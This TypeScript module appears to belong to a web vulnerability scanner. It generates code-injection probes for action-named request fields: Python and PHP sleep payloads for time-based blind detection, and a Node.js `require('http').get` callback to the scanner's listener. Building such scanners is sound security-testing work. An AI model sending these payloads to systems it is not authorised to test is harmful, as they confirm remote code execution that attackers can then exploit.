import { type InjectionPoint, ownNameOf } from '../crawl/point.ts';
import { mayWiden, type Trial } from './trial.ts';

/** Fields that name what a program is to do. */
const NAMED_AS_ACTION =
  /^(?:cmd|command|comando|action|azione|aktion|act|op|operation|operazione|method|metodo|func|fn|function|funzione|callback|task|handler|event|call|do|run|job|step|verb)$/i;
const NAME = /^[a-z_]\w{1,30}$/i;

/** Whether the page fixes the value to one of a few names: a program may turn it into code whose result no page shows. */
const isActionValue = (trial: Trial) =>
  NAMED_AS_ACTION.test(ownNameOf(trial.point)) && NAME.test(trial.point.value) && trial.isUsual(trial.other);

/** Forms that store keep a share for the few values that prove it. */
export const provingAction = (trial: Trial | null) => (trial && isActionValue(trial) ? trial.proving() : trial);

/**
 * PHP expression that sleeps once per request, however often the code is evaluated. Databases do not know `gc_enabled`:
 * MySQL would call a plain `sleep` for every row.
 */
export const sleepOnce = (seconds: number) => `(gc_enabled()?sleep(${seconds}).gc_disable():0)`;

/** Where something may be written, a number joined in front makes it a syntax error in SQL as well. */
export const sleepOnceAt = (point: InjectionPoint, seconds: number) =>
  `${mayWiden(point) ? '' : '0 .'}${sleepOnce(seconds)}`;

type Spelled<Of> = ReadonlyArray<(of: Of) => string>;

/**
 * Waits in languages that can sleep. All letters are small, and what a program adds behind is a comment: some change letters
 * and add a part of a name.
 */
export const actionWaits = (trial: Trial): Spelled<number> =>
  isActionValue(trial)
    ? [
        (seconds) => `__import__('time').sleep(${seconds})#q`,
        (seconds) => `${trial.point.value},__import__('time').sleep(${seconds})#q`,
        (seconds) => `${sleepOnceAt(trial.point, seconds)};//q`,
      ]
    : [];

/** JavaScript cannot sleep: it asks our listener. */
export const askingScript = (url: string, quote: string) =>
  `(typeof require=='function'?require:process.mainModule.require)('http').get('${url}')`.replaceAll("'", quote);

export const actionAsks = (trial: Trial): Spelled<string> =>
  isActionValue(trial) ? [(url) => `${trial.point.value},${askingScript(url, "'")}`] : [];
